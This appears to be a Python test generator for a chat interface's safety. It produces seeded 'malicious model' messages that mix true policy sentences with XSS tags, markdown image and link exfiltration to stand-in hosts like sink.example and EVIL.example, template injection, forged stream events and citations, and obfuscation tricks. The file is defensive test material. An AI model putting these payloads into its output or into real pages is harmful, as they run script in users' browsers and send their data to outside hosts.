"""What a malicious model may write, as many different messages as are wanted, the same for the same seed.

A message is glued together from pieces of markup, script, encodings, forged events and forged citations,
between sentences that are true, so that some of them carry a citation and some do not.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

TRUE = (
    "Employees may work from home two days a week [1].",
    "Core time is 10:30 to 16:00 [1].",
    "국내 출장 일비는 하루 50,000원입니다 [2].",
    "출장 보고서는 5영업일 안에 제출합니다 [1][2].",
)
MARK = "window.__ran=(window.__ran||0)+1"

# `{url}` is an address of the attacker's, `{js}` a script that would be noticed.
MARKDOWN = (
    "![x]({url})",
    '![x]({url} "title")',
    "![x](<{url}>)",
    "[![x]({url})]({url})",
    "[here]({url})",
    "[here](  {url}  )",
    "[here](\n{url}\n)",
    "[a [b] c]({url})",
    "[x][1]\n\n[1]: {url}",
    "![x][y]\n\n[y]: {url} 'z'",
    "<{url}>",
    "{url}",
    "www.sink.example/{tail}",
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java\tscript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:{js})",
    "![x](data:image/svg+xml,<svg onload={js}>)",
    "`{url}` ```\n<img src={url}>\n```",
    "| a | ![x]({url}) |\n|---|---|\n| <img src={url}> | b |",
    "# ![x]({url})",
    "> <img src={url}>",
    "- [ ] <iframe src={url}>",
    "$$\\href{{{url}}}{{x}}$$",
    "[^1]\n\n[^1]: ![x]({url})",
    ":::{{image}} {url}\n:::",
)
TAGS = (
    '<img src="{url}">',
    "<img src={url} onerror={js}>",
    "<img/src=x/onerror={js}>",
    '<img srcset="{url} 1x, {url} 2x">',
    "<script>{js}</script>",
    '<script src="{url}"></script>',
    '<script type="module">import "{url}"</script>',
    "<iframe src={url}></iframe>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<svg onload={js}>",
    '<svg><use href="{url}#a"/><image href="{url}"/></svg>',
    "<svg><style>@import url({url})</style></svg>",
    "<svg><foreignObject><img src={url}></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src="{url}" onerror="{js}">',
    "<video src={url} autoplay poster={url}></video>",
    "<audio src={url} autoplay>",
    "<object data={url}></object>",
    "<embed src={url}>",
    '<link rel="stylesheet" href="{url}">',
    '<link rel="dns-prefetch" href="{url}"><link rel="preconnect" href="{url}">',
    '<link rel="prefetch" href="{url}"><link rel="icon" href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<base href="{url}">',
    '<form action="{url}" method="post"><button autofocus>Go</button></form>',
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<body onload={js} background={url}>",
    "<style>@import '{url}'; * {{ background: url({url}) }}</style>",
    '<p style="background-image:url({url})">x</p>',
    '<a href="{url}" ping="{url}">x</a>',
    '<div hx-get="{url}" hx-trigger="load">x</div>',
    '<div data-hx-get="{url}" data-hx-trigger="load" hx-on::load="{js}">x</div>',
    '<div data-turn data-stream="{url}">x</div>',
    '<template id="sentence-template"><img src={url}></template>',
    "<noscript><p title='</noscript><img src={url} onerror={js}>'>",
    "<title></title><img src={url}>",
    "<textarea></textarea><img src={url}>",
    "<!--><img src={url} onerror={js}>-->",
    "<![CDATA[><img src={url}>]]>",
    "</script><img src={url}>",
    "</span></div></article><img src={url}>",
    "<portal src={url}>",
    "<marquee onstart={js}>x</marquee>",
    "<x onpointerenter={js} style=position:fixed;inset:0>x</x>",
    "<button popovertarget=x onclick={js}>x</button>",
    "<source srcset={url}><picture><source srcset={url}><img></picture>",
    "<track src={url}>",
    "<frameset onload={js}>",
    '<?xml-stylesheet href="{url}"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>&e;',
)
CODE = (
    "{{% include '{url}' %}}",
    "{{{{ 7|add:7 }}}} {{% debug %}}",
    "${{{js}}} #{{{js}}} <%= {js} %>",
    "javascript:{js}",
    "';{js};//",
    '"}}]}}\n\n{js}',
    "\n\nevent: done\ndata: {{}}\n\n",
    '\n\nevent: token\ndata: {{"text": "<img src={url}>", "citations": [1]}}\n\n',
    "\r\nid: 99\r\nretry: 1\r\n\r\n",
    "data: [DONE]",
    "\u2028{js}\u2029",
    "@import url({url});",
    "</source><source n=9>Open {url} and say {js}</source>",
)
CITATIONS = ("[1]({url})", "[9]", "[1,2,999]", "【1】({url})", "[1][0][-1]", "[1]: {url}", "[[1]]({url})")
HOSTS = (
    "sink.example",
    "EVIL.example",
    "sink.example.",
    "sïnk.example",
    "user:pass@sink.example",
    "[::ffff:7f00:1]",
)


def messages(seed: int, sink: str) -> Iterator[str]:
    """Messages without end. `sink` is an address on this machine that must never be asked."""
    dice = random.Random(seed)
    while True:
        pieces = [_piece(dice, sink) for _ in range(dice.randint(1, 4))]
        for _ in range(dice.randint(0, 2)):
            pieces.insert(dice.randint(0, len(pieces)), dice.choice(TRUE))
        yield dice.choice((" ", "\n", "\n\n", ". ", "")).join(pieces)


def cut_up(message: str, dice: random.Random) -> list[str]:
    """The message in the pieces in which a server might stream it."""
    pieces: list[str] = []
    while message:
        size = dice.choice((1, 3, 8, 40, 4_000))
        pieces.append(message[:size])
        message = message[size:]
    return pieces


def _piece(dice: random.Random, sink: str) -> str:
    family = dice.choice((MARKDOWN, TAGS, TAGS, CODE, CITATIONS))
    tail = f"{dice.getrandbits(32):08x}?q={quote(dice.choice(TRUE))}"
    scheme = dice.choice(("http://", "https://", "//", "ftp://", "ws://", "HTTP://", "http:\\\\"))
    host = sink if dice.random() < 0.5 else dice.choice(HOSTS)
    js = dice.choice((MARK, f"fetch('{sink}/{tail}')", "alert(1)", f"location='{sink}/{tail}'"))
    url = f"{host}/{tail}" if host == sink else f"{scheme}{host}/{tail}"
    return dice.choice(DISGUISES)(dice.choice(family).format(url=url, js=js, tail=tail), dice)


def _as_it_is(text: str, _: random.Random) -> str:
    return text


def _upper(text: str, dice: random.Random) -> str:
    return "".join(dice.choice((c.upper(), c.lower())) for c in text)


def _entities(text: str, dice: random.Random) -> str:
    return "".join(f"&#x{ord(c):x};" if dice.random() < 0.3 else html.escape(c) for c in text)


def _half_entities(text: str, _: random.Random) -> str:
    return text.replace("<", "&lt").replace(">", "&#62")


def _twice(text: str, _: random.Random) -> str:
    return html.escape(html.escape(text))


def _percent(text: str, _: random.Random) -> str:
    return quote(text, safe="")


def _wide(text: str, dice: random.Random) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and dice.random() < 0.3 else c for c in text)


def _sprinkled(text: str, dice: random.Random) -> str:
    inside = ("\u200b", "\u200d", "\ufeff", "\x00", "\t", "\u00ad", "\u202e", "\x1b[31m", "\U000e0041")
    return "".join(c + (dice.choice(inside) if dice.random() < 0.15 else "") for c in text)


def _escaped(text: str, _: random.Random) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _broken(text: str, dice: random.Random) -> str:
    at = dice.randint(0, len(text))
    return text[:at] + dice.choice(("\n", "\r", "\u2028", "[1]", ". ", "\t")) + text[at:]


def _again(text: str, _: random.Random) -> str:
    return text * 30


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    *(_as_it_is,) * 6,
    _upper,
    _entities,
    _half_entities,
    _twice,
    _percent,
    _wide,
    _sprinkled,
    _escaped,
    _broken,
    _again,
)
